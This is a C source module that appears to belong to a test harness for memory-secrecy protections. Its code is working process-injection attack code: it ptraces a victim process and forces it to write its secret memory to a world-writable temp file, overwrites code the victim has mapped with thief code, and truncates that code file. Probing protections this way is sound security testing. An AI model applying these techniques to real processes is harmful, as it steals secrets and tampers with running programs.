/*
 * code.c - the victim itself hands out its secret, which no protection of pages prevents: injected system calls, and
 * new code in a file that it runs.
 */
#include "../attack.h"

#include <sys/file.h>

enum { TRIES = 40, STEP_MS = 50 };

static int poke_text(pid_t pid, unsigned long long at, const char *text)
{
	for (size_t i = 0; i <= strlen(text); i += sizeof(long)) {
		long word = 0;

		memcpy(&word, text + i, strnlen(text + i, sizeof(word)));
		if (ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)(at + i), (void *)word) < 0)
			return -errno;
	}
	return 0;
}

/* open(path), pwrite(it, secret), close(it), made by the stopped victim. */
static long make_it_write(const struct attack *a, pid_t pid, const char *path, unsigned long long secret)
{
	struct user_regs_struct regs;
	long fd = poke_text(pid, a->target.scratch, path), written;

	if (fd < 0)
		return fd;
	if (get_registers(pid, &regs) < 0)
		return -errno;
	if (!is_in_call(pid, &regs))
		return -ENODATA;
	fd = arch_make_call(pid, &regs, SYS_openat, (const uint64_t[4]){ (uint64_t)AT_FDCWD, a->target.scratch, O_WRONLY, 0 });
	written = fd;
	if (fd >= 0) {
		written = arch_make_call(pid, &regs, SYS_pwrite64,
				    (const uint64_t[4]){ (uint64_t)fd, secret, a->target.length, 0 });
		(void)arch_make_call(pid, &regs, SYS_close, (const uint64_t[4]){ (uint64_t)fd, 0, 0, 0 });
	}
	(void)put_registers(pid, &regs);
	return written;
}

static int inject_once(struct attack *a, unsigned long long secret, const char *path, int fd)
{
	pid_t pid = a->target.pid;
	int result = trace(pid, (enum way)a->row->number);
	long written;

	if (result != 0)
		return result;
	written = make_it_write(a, pid, path, secret);
	untrace(pid);
	return written < 0 ? (int)written : saw_file(a, fd);
}

/* A file that any process can write, for what is stolen: its descriptor, or -1. */
static int make_loot(char *path)
{
	int fd = mkstemp(path);

	return fd < 0 || fchmod(fd, 0666) < 0 ? -1 : fd;
}

/* Repeated, because it is chance where the thread stops. */
int inject(struct attack *a)
{
	unsigned long long secret = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
	char path[] = "/tmp/attack.XXXXXX";
	int fd, result = -ENODATA;

	if (secret == 0)
		return not_here(a, "no memfd_secret");
	fd = make_loot(path);
	if (fd < 0)
		return not_here(a, "no file");
	for (int i = 0; result == -ENODATA && i < TRIES; i++) {
		if (i > 0)
			pause_ms(STEP_MS);
		result = inject_once(a, secret, path, fd);
	}
	(void)unlink(path);
	return result;
}

int open_code(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	a->fd = open_path(a->target.code, O_RDWR);
	return a->fd < 0 ? a->fd : 0;
}

static ssize_t put_code(struct attack *a, const char *code, size_t size)
{
	if (a->at == NULL)
		return pwrite(a->fd, code, size, 0);
	memcpy(a->at, code, size);
	return (ssize_t)size;
}

/* New code into a file that the victim has mapped and runs. */
int write_code(struct attack *a)
{
	char code[] = ARCH_THIEF "/tmp/attack.XXXXXX";
	char *path = code + sizeof(ARCH_THIEF) - 1;
	int loot = make_loot(path), result;

	/* Attacks of --hold run at the same time: one after the other gets the victim's code. */
	if (loot < 0 || flock(a->fd, LOCK_EX) < 0)
		return not_here(a, "no file");
	result = put_code(a, code, sizeof(code)) < 0 ? -errno : -ENODATA;
	for (int i = 0; result == -ENODATA && i < TRIES; i++) {
		pause_ms(STEP_MS);
		result = saw_file(a, loot);
	}
	(void)put_code(a, ARCH_RETURN, sizeof(ARCH_RETURN) - 1);
	(void)flock(a->fd, LOCK_UN);
	(void)unlink(path);
	return result == -ENODATA ? ALLOWED : result;
}

/* The pages are shared by all that have the file mapped. */
int map_and_write_code(struct attack *a)
{
	a->at = mmap(NULL, page_size(), PROT_READ | PROT_WRITE, MAP_SHARED, a->fd, 0);
	return a->at == MAP_FAILED ? -errno : write_code(a);
}

/* Afterwards the victim has no code to run. */
int truncate_code(struct attack *a)
{
	if (a->target.code[0] == '\0')
		return not_here(a, "the victim has no --code");
	return judge(truncate(a->target.code, 0));
}
